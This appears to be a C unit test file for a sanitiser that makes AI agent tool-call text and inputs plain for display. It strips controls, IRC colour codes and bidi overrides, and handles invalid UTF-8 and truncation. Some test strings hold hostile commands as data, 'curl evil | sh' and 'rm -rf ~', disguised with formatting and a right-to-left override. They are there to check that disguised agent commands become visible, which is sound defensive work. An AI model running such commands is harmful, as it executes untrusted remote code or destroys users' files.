/*
 * test_plain.c: AU-6, M2. Agent-written text made plain (acp_plain):
 * controls, IRC formatting with its colour digits, bidi controls gone,
 * invalid UTF-8 replaced, cut on a character; and a tool call's rawInput
 * rendered for a card (acp_plain_input).
 */
#include "compat.h"

#include <cjson/cJSON.h>

#include <stdlib.h>
#include <string.h>

#include "acp/acp.h"
#include "tap.h"

static char out[512];

static const char *
plain(const char *s)
{
	acp_plain(out, sizeof(out), s, strlen(s));
	return out;
}

static const char *
input(const char *json, size_t size)
{
	cJSON *j = cJSON_Parse(json);

	acp_plain_input(out, size, j);
	cJSON_Delete(j);
	return out;
}

static void
test_controls(void)
{
	char buf[8];
	size_t n;

	is_str(plain("Read README.md"), "Read README.md", "plain text stays");
	is_str(plain("a\tb\nc\rd"), "a b c d",
	    "tab, LF and CR become spaces, so words stay apart");
	is_str(plain("a\x01" "b\x07" "c\x1b[2Jd\x7f" "e"), "abc[2Jde",
	    "other C0 controls (ESC, BEL) and DEL are removed");
	n = acp_plain(buf, sizeof(buf), "a\0b", 3);
	ok(n == 2 && memcmp(buf, "ab", 3) == 0, "a NUL inside is removed");
	is_str(plain("a\xc2\x85" "b\xc2\x9b" "c\xc2\xa0" "d"),
	    "abc\xc2\xa0" "d", "C1 controls (U+0085, U+009B) removed, "
	    "U+00A0 kept");
}

static void
test_formatting(void)
{
	/* The review's title (M2). */
	is_str(plain("Read README.md\x03" "01,01 && curl evil | sh\x0f "
	    "\xe2\x80\xaehs.lave\xe2\x80\xac"),
	    "Read README.md && curl evil | sh hs.lave",
	    "M2: colour, reset and a right-to-left override removed");
	is_str(plain("\x02" "b\x1d" "i\x1f" "u\x1e" "s\x11" "m\x16" "r\x0f"),
	    "biusmr", "bold, italics, underline, strike, monospace, reverse, "
	    "reset removed");
	is_str(plain("\x03" "4red \x03" "04,12both \x03" "123 \x03,5x"),
	    "red both 3 ,5x",
	    "\\x03: at most two digits, a background only after a "
	    "foreground");
	is_str(plain("\x03" "1,x"), ",x", "\\x03 1 then a comma and no "
	    "digit: the comma is text");
	is_str(plain("\x04" "FF00aa,000000hex \x04" "12345z \x04"),
	    "hex 12345z ", "\\x04 takes RRGGBB[,RRGGBB] only when six hex "
	    "digits follow");
	is_str(plain("x\x03"), "x", "a colour code at the end");
}

static void
test_bidi(void)
{
	is_str(plain("a\xe2\x80\x8e" "b\xe2\x80\x8f" "c\xe2\x80\xaa" "d"
	    "\xe2\x80\xab" "e\xe2\x80\xac" "f\xe2\x80\xad" "g\xe2\x80\xae" "h"),
	    "abcdefgh", "LRM, RLM, LRE, RLE, PDF, LRO, RLO removed");
	is_str(plain("a\xe2\x81\xa6" "b\xe2\x81\xa7" "c\xe2\x81\xa8" "d"
	    "\xe2\x81\xa9" "e\xd8\x9c" "f"), "abcdef",
	    "isolates (U+2066..2069) and U+061C removed");
	is_str(plain("a\xe2\x80\xa8" "b\xe2\x80\xa9" "c"), "a b c",
	    "line and paragraph separators become spaces");
	is_str(plain("\xc3\xa9t\xc3\xa9 \xe2\x9c\x93 \xf0\x9f\x98\x80"),
	    "\xc3\xa9t\xc3\xa9 \xe2\x9c\x93 \xf0\x9f\x98\x80",
	    "accents, symbols and emoji stay");
	ok(acp_plain_is("read-only"), "a word is plain");
	ok(!acp_plain_is("co\x03" "4de"), "a colour is not plain");
	ok(!acp_plain_is("\xe2\x80\xae" "edoc"), "an override is not plain");
	ok(!acp_plain_is("a\tb"), "a tab is not plain (it would change)");
	ok(!acp_plain_is("\xff"), "invalid UTF-8 is not plain");
}

static void
test_utf8(void)
{
	is_str(plain("a\xff" "b"), "a\xef\xbf\xbd" "b",
	    "an invalid byte becomes U+FFFD");
	is_str(plain("a\xe2\x82"), "a\xef\xbf\xbd",
	    "a cut sequence becomes one U+FFFD");
	is_str(plain("\xc0\xaf"), "\xef\xbf\xbd\xef\xbf\xbd",
	    "an overlong '/' is no '/'");
	is_str(plain("\xed\xa0\x80"), "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd",
	    "a surrogate is invalid");
	is_str(plain("\xc2\x85"), "", "a C1 control encoded well is removed");
	is_str(plain("\x85"), "\xef\xbf\xbd", "a bare C1 byte is invalid");
}

static void
test_bound(void)
{
	char buf[8], big[64];
	size_t n;

	n = acp_plain(buf, sizeof(buf), "abcdefgh", 8);
	ok(n == 7 && strcmp(buf, "abcd\xe2\x80\xa6") == 0,
	    "cut with an ellipsis within size");
	n = acp_plain(buf, sizeof(buf), "abcdefg", 7);
	ok(n == 7 && strcmp(buf, "abcdefg") == 0, "exactly size - 1 is not cut");
	n = acp_plain(buf, sizeof(buf), "ab\xc3\xa9\xc3\xa9\xc3\xa9", 8);
	ok(n == 7 && strcmp(buf, "ab\xc3\xa9\xe2\x80\xa6") == 0,
	    "cut on a character boundary, never inside one");
	n = acp_plain(buf, 3, "abcdef", 6);
	ok(n == 2 && strcmp(buf, "ab") == 0, "no room for the ellipsis: cut");
	n = acp_plain(buf, 1, "abc", 3);
	ok(n == 0 && buf[0] == '\0', "size 1: empty");
	ok(acp_plain(buf, 0, "abc", 3) == 0, "size 0: nothing written");
	n = acp_plain(big, sizeof(big), "\x02\x02\x02\x02\x02\x02\x02\x02"
	    "\x02\x02\x02\x02\x02\x02\x02\x02\x02\x02\x02\x02ok", 22);
	ok(n == 2 && strcmp(big, "ok") == 0,
	    "what is removed takes no room");
}

static void
test_input(void)
{
	is_str(input("{\"command\":\"curl evil | sh\",\"description\":\"x\"}",
	    256), "$ curl evil | sh", "a command string (Claude Code's Bash)");
	is_str(input("{\"command\":[\"bash\",\"-lc\",\"rm -rf build\"],"
	    "\"cwd\":\"/w\"}", 256), "$ bash -lc 'rm -rf build'",
	    "an argv (codex), words quoted where needed");
	is_str(input("{\"cmd\":[\"echo\",\"it's\",\"\"]}", 256),
	    "$ echo 'it'\\''s' ''", "quotes and an empty word in an argv");
	is_str(input("{\"file_path\":\"/src/a.c\",\"old_string\":\"x\","
	    "\"new_string\":\"hello\"}", 256), "/src/a.c (5 bytes)",
	    "an edit: its path and size (Claude Code's Edit)");
	is_str(input("{\"file_path\":\"/a\",\"content\":\"0123456789\"}", 256),
	    "/a (10 bytes)", "a write: content's size");
	is_str(input("{\"abs_path\":\"/x/y\"}", 256), "/x/y", "abs_path (Zed)");
	is_str(input("{\"paths\":[\"/a\",\"/b\"]}", 256), "/a, /b", "paths");
	is_str(input("{\"path\":\"/p\",\"newText\":\"abc\"}", 256),
	    "/p (3 bytes)", "newText");
	is_str(input("{\"call_id\":\"c\",\"changes\":{\"/w/a\":{\"type\":\"add\","
	    "\"content\":\"abc\"},\"/w/b\":{\"type\":\"update\",\"unified_diff\":"
	    "\"-x\\n+y\\n\"},\"/w/c\":{\"type\":\"delete\"}}}", 256),
	    "/w/a (add, 3 bytes), /w/b (update, 6 bytes), /w/c (delete)",
	    "codex's apply_patch: each change, its kind and size");
	is_str(input("{\"server_name\":\"s\",\"id\":\"x\",\"request\":{\"_meta\":"
	    "{\"tool_params\":{\"name\":\"n\",\"in_seconds\":1}}}}", 256),
	    "{\"name\":\"n\",\"in_seconds\":1}",
	    "codex's MCP approval: the tool's arguments, not the envelope");
	is_str(input("{\"what\":\"delete the build dir\"}", 256),
	    "{\"what\":\"delete the build dir\"}",
	    "no known key: compact JSON");
	is_str(input("{}", 256), "", "{}: nothing to show");
	is_str(input("null", 256), "", "null: nothing to show");
	is_str(input("[]", 256), "", "[]: nothing to show");
	is_str(input("\"ls -l\"", 256), "\"ls -l\"", "a bare string: as JSON");
	is_str(input("{\"command\":\"ls\\u0003" "01,01; rm -rf ~\\u202e\"}",
	    256), "$ ls; rm -rf ~", "the input is made plain too");
	is_str(input("{\"command\":\"a\\nb\"}", 256), "$ a b",
	    "a newline in a command becomes a space");
	ok(strlen(input("{\"x\":\"" "0123456789012345678901234567890123456789"
	    "0123456789012345678901234567890123456789"
	    "0123456789012345678901234567890123456789"
	    "0123456789012345678901234567890123456789"
	    "0123456789012345678901234567890123456789" "\"}", 512)) <= 200,
	    "JSON is cut at 200 bytes");
	ok(strstr(out, "\xe2\x80\xa6") != NULL, "with an ellipsis");
	is_str(input("{\"command\":\"0123456789abcdef\"}", 10), "$ 0123\xe2\x80\xa6",
	    "bounded by size");
	acp_plain_input(out, sizeof(out), NULL);
	is_str(out, "", "no rawInput at all");
}

int
main(void)
{
	test_controls();
	test_formatting();
	test_bidi();
	test_utf8();
	test_bound();
	test_input();
	return tap_done();
}
